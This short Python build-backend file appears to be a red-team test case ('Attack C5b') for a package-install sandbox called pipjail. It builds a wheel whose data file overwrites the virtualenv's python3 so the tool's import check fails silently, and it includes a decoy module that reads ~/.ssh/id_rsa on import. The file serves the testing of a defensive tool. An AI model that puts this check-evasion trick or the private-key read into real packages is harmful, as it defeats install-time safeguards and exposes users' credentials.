# Attack C5b: .data/data/bin/python3 (a data file: mode 0644) replaces the
# venv's bin/python3 symlink.  pipjail's import check then cannot start the
# staged interpreter ("cannot execute: Permission denied"): the package's
# own module (which reads a decoy at import) is never imported, the run is
# still "clean", and the broken venv is committed.
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-break-import-check", "1.0"

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    return wheelkit.write_wheel(wheel_dir, NAME, VER, {
        "rt1_break_import_check.py": b"import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
        f"{NAME.replace('-', '_')}-{VER}.data/data/bin/python3": b"not a program\n"})
